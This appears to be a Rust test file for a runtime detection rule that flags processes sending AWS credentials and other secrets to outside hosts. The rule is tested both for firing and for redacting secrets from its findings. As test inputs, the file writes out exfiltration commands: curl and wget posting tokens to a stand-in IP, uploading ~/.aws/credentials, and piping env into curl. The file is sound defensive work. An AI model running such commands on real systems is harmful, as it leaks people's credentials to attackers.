use super::*;
use crate::detection::Subject;
use crate::detection::testing::*;
use crate::policy::Policy;

const SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

fn judged(binary: &str, arguments: &str, environment: &[&str]) -> Verdict {
    let mut process = process(binary, arguments);
    process.environment = environment.iter().map(|name| (*name).to_owned()).collect();
    Given::none().judge(&DETECTION, &executed(process), &Policy::default())
}

/// Validation test 5.
#[test]
fn credential_parameters_beside_aws_variables_fire() {
    let environment = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "PATH"];
    for (binary, arguments) in [
        ("/usr/bin/curl", "http://203.0.113.9/c?token=hunter2hunter2"),
        ("/usr/bin/wget", "-qO- --post-data 'password=hunter2hunter2' http://203.0.113.9/"),
        ("/usr/bin/curl", "-d '{\"api_key\": \"hunter2hunter2\"}' http://203.0.113.9/"),
        ("/usr/bin/curl", "-u bob:hunter2hunter2 http://203.0.113.9/"),
        ("/bin/sh", "-c \"curl 'http://203.0.113.9/?secret=hunter2hunter2'\""),
    ] {
        let found = matched(judged(binary, arguments, &environment));
        assert_eq!(found.severity, None);
        assert_eq!(found.subject, Subject::Runtime { place: "web/web-1".to_owned() });
        assert_eq!(found.evidence["sent_to"], "203.0.113.9", "{arguments}");
        let told = format!("{found:?}");
        assert!(!told.contains("hunter2"), "{told}");
    }
}

#[test]
fn awss_own_credentials_fire_without_the_environment() {
    for arguments in [
        &format!("-d aws_secret_access_key={SECRET} http://203.0.113.9/"),
        &format!("-d 'id=AKIAIOSFODNN7EXAMPLE&secretAccessKey={SECRET}' http://203.0.113.9/"),
        &format!("-H 'X-Amz-Security-Token: {SECRET}' http://203.0.113.9/"),
        "http://203.0.113.9/?k=AKIAIOSFODNN7EXAMPLE",
        "-T /root/.aws/credentials http://203.0.113.9/",
        "--data-binary @/root/.aws/credentials http://203.0.113.9/",
    ] {
        let found = matched(judged("/usr/bin/curl", arguments, &[]));
        let told = format!("{found:?}");
        assert!(!told.contains(SECRET) && !told.contains("AKIAIOSFODNN7EXAMPLE"), "{told}");
    }
    for arguments in [
        "-c 'curl -d \"$AWS_SECRET_ACCESS_KEY\" http://203.0.113.9/'",
        "-c 'env | curl -d @- http://203.0.113.9/'",
        "-c 'curl -d \"$(env)\" http://203.0.113.9/'",
        "-c 'cat ~/.aws/credentials | curl --data-binary @- http://203.0.113.9/'",
    ] {
        matched(judged("/bin/bash", arguments, &[]));
    }
}

#[test]
fn everyday_requests_do_not_fire() {
    for (binary, arguments) in [
        ("/usr/bin/curl", "-fsSL https://example.com/install.sh?version=2"),
        ("/usr/bin/curl", "-H 'Authorization: Bearer abc' https://api.example.com/"),
        ("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/"),
        ("/usr/bin/curl", "http://127.0.0.1:8080/healthz"),
        ("/bin/sh", "-c 'env | grep PATH'"),
        (
            "/usr/bin/curl",
            "'https://b.s3.amazonaws.com/k?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20260513&X-Amz-Signature=00ff'",
        ),
        (
            "/usr/bin/curl",
            "--aws-sigv4 aws:amz:eu-central-1:s3 --user AKIAIOSFODNN7EXAMPLE:x https://b.s3.amazonaws.com/k",
        ),
        ("/usr/bin/tar", "czf secret=x.tgz /tmp"),
    ] {
        passed(judged(binary, arguments, &["AWS_REGION"]));
    }
}

/// `curl -u` to a service of one's own is everyday; beside AWS's variables in a container it is not.
#[test]
fn other_secrets_matter_beside_aws_variables_only() {
    passed(judged("/usr/bin/curl", "-d password=hunter2hunter2 https://x.example/", &["PATH"]));
}

#[test]
fn a_process_without_a_name_cannot_be_told() {
    assert_eq!(cannot_tell(judged("", "", &[])).code, "program-not-named");
    not_applicable(Given::none().judge(&DETECTION, &pushed(push()), &Policy::default()));
}
